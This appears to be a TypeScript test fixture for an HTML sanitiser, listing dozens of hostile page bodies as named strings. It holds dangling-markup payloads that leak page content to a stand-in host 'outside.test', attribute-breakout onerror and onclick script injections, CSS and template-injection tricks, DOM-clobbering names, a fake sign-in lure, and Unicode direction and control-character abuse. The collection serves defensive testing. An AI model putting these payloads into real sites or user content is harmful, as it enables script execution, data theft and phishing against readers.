import type { HostileBody } from './hostile-body.ts';

/** Names that scripts of a page look up, taken by an id or a name of the body's. */
const TAKEN =
  `attributes body childNodes children cookie createElement currentScript defaultView documentElement
  firstChild forms getElementById head hostile innerHTML location main name nodeName ownerDocument parentNode
  querySelector removeChild self title top webpackJsonp __proto__ constructor toString`.split(
    /\s+/,
  );

const BODIES: Record<string, string> = {
  'picture that never ends': `<img src='https://outside.test/?`,
  'link that never ends': `<a href='https://outside.test/?`,
  'form that takes the rest': `<form action=https://outside.test/><textarea name=a>`,
  'button that takes the rest': `<button formaction=https://outside.test/ name='`,
  'choice that takes the rest': `<form action=https://outside.test/><select><option>`,
  'style that takes the rest': `<style>@import'https://outside.test/?`,
  'refresh that takes the rest': `<meta http-equiv=refresh content='0; url=https://outside.test/?`,
  'base that takes the rest': `<base target='`,
  'object that takes the rest': `<object data='https://outside.test/?`,
  'comment that takes the rest': `<!-- the rest`,
  'text area that takes the rest': `<textarea>the rest`,
  expression: '<p style="width:expression(hostile())">text</p>',
  behaviour: '<p style="behavior:url(https://outside.test/a.htc)">text</p>',
  binding: '<p style="-moz-binding:url(https://outside.test/a.xml#b)">text</p>',
  'style with escapes': '<p style="b\\61ckground:u\\72l(https://outside.test/)">text</p>',
  overlay: '<a href="https://example.org/" style="position:fixed;inset:0;z-index:9999">text</a>',
  'style of everything': '<style>body{display:none}</style>text',
  'media query': '<style>@media all{@import url(https://outside.test/)}</style>',
  'attribute selector that tells':
    '<style>a[href^="h"]{background:url(https://outside.test/h)}</style>',
  'template of a framework': `{{constructor.constructor('hostile()')()}}`,
  'template of another framework': '${hostile()} #{hostile()} <%= hostile() %>',
  'directives of a framework':
    '<div ng-app ng-csp ng-init="hostile()" v-html="hostile()" x-init="hostile()" @click="hostile()">text</div>',
  'markup over the wire':
    '<div hx-get="https://outside.test/" hx-trigger="load" hx-on:load="hostile()">text</div>',
  'components of a framework':
    '<div data-reactroot data-react-helmet dangerouslySetInnerHTML="{__html:1}">text</div>',
  'custom element': '<x-hostile is="x-hostile">text</x-hostile><p is="x-hostile">text</p>',
  slot: '<slot name=a>text</slot><p slot=a>text</p>',
  'parts of ours':
    '<div data-block="cover"><div data-part="background" style="background:url(https://outside.test/)"></div>text</div>',
  'words of ours': '<span data-interface onclick=hostile()>Sign in again at outside.test</span>',
  'embed of ours with another name':
    '<figure data-block="embed" data-provider="YouTube"><a href="https://outside.test/"><span data-part="title">text</span></a></figure>',
  'footnote with markup for an id':
    '<sup data-fn="&quot;><img src=x onerror=hostile()>">1</sup><ol class="wp-block-footnotes"><li id="&quot;><img src=x onerror=hostile()>">text</li></ol>',
  'heading with markup for an id': '<h2 id="x&quot; onclick=&quot;hostile()">text</h2>',
  'language with markup': '<p lang="en&quot; onclick=&quot;hostile()" dir="ltr onclick">text</p>',
  'title with markup': '<abbr title="</abbr><img src=unknown onerror=hostile()>">text</abbr>',
  'alternative text with markup':
    '<figure><img class="wp-image-1" src=a.jpg alt="&quot;><script>hostile()</script>"></figure>',
  'column count with markup':
    '<table><td colspan="2 onclick=hostile()">a<td rowspan=99999999999>b</table>',
  'list that starts nowhere':
    '<ol start="1e308" reversed type="javascript:hostile()"><li value="-1">text</li></ol>',
  'shortcode with a script':
    '[audio src="javascript:hostile()"][embed]javascript:hostile()[/embed] text',
  'shortcode with markup': '[caption]<img src=unknown onerror=hostile()>[/caption]',
  'shortcode in a shortcode': '[a_b x="[c_d y=<script>hostile()</script>]"] text',
  'override that turns the page': '\u202e\u202e\u2067txet',
  'directions closed too often': 'text\u202c\u2069\u2069\u202c',
  'marks over and under the line': `text${'\u0300\u0321'.repeat(500)}`,
  'zero-width letters': 'te\u200bx\u200ct\u2060\ufeff',
  'lone surrogates': 'te\ud800xt\udc00 &#xd800; &#xdfff;',
  noncharacters: 'te\uffffxt\ufdd0 &#xffff; &#x10ffff; &#x110000;',
  controls: 'te\u0001x\u0008t\u007f\u0085\u009b31m &#8; &#x1b;[31m',
  NULs: 'te\0xt <p>te&#0;xt</p> <p title="\0">text</p>',
  'tags of the invisible plane': `text${'\u{e0041}\u{e0042}'.repeat(20)}`,
  'line separators': 'te\u2028xt\u2029text',
  'entities without end':
    'text &amp &lt &notit; &#x &#; &unknown; &CounterClockwiseContourIntegral;',
  'prototype for a class':
    '<p class="__proto__ constructor toString wp-block-__proto__">text</p><div class="wp-block-constructor">text</div>',
  'prototype for a tag':
    '<constructor>text</constructor><__proto__>text</__proto__><toString>text</toString>',
  'prototype for a block of ours':
    '<div data-block="constructor">text</div><div data-block="__proto__">text</div>',
};

export const OTHER_BODIES: HostileBody[] = [
  ...TAKEN.map((name) => ({
    name: `name taken: ${name}`,
    html: `<h2 id="${name}">text</h2><form name="${name}"><input name="${name}"></form><a id="${name}" name="${name}" href="https://outside.test/">text</a><img name="${name}" src="unknown">`,
  })),
  ...Object.entries(BODIES).map(([name, html]) => ({ name: `other: ${name}`, html })),
];
